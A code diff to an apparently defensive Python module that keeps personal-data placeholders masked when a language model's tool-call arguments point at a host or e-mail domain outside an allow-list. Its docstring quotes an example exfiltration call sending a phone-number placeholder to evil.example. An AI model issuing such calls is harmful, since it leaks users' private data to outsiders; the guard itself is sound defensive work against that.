@@ -4,7 +4,7 @@ Arguments are data for a program (a search, a form, an e-mail), so their placeho
 restored: the tool needs the values. But restoring is what would put a value of the request
 into a URL the model wrote — ``fetch(url="https://evil.example/?d=〔電話番号1〕")`` — and the
 client's tool runner would carry it out. So a call whose arguments hold a link or URL to a
-host outside the allowed ones (anywhere in them: a URL in one field and the value in
+host outside the allowed ones, or an e-mail address of such a domain (anywhere in them: a URL in one field and the value in
 another is the same way out once the tool joins them) keeps its placeholders **as the model
 wrote them**, reported as ``exfiltration`` / ``masked``; any other call has them restored,
 in every string of its JSON (decoded: a placeholder written ``\u3014氏名1\u3015`` is one
@@ -27,6 +27,8 @@ from hinagata.mask import restore
 
 __all__ = ["ArgumentsRestorer", "restore_arguments", "restore_input"]
 
+#: The domain of an e-mail address the model wrote (a mail tool is a way out too).
+_MAIL = re.compile(r"[A-Za-z0-9._%+-]+@([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)")
 #: The host of a link or URL (with or without its scheme: a tool may add one).
 _HOST = re.compile(r"(?:https?:)?//([^/?#:@\s\"'<>\\]+)|\b(www\.[^/?#:\s\"'<>\\]+)", re.IGNORECASE)
 
@@ -54,6 +56,8 @@ def _way_out(strings: list[str], mapping: Mapping[str, str], screen: OutputScree
             host = m.group(1) or m.group(2) or ""
             if not screen.allows(host):
                 return True
+        if any(not screen.allows(m.group(1)) for m in _MAIL.finditer(s)):
+            return True
     return False
 
 
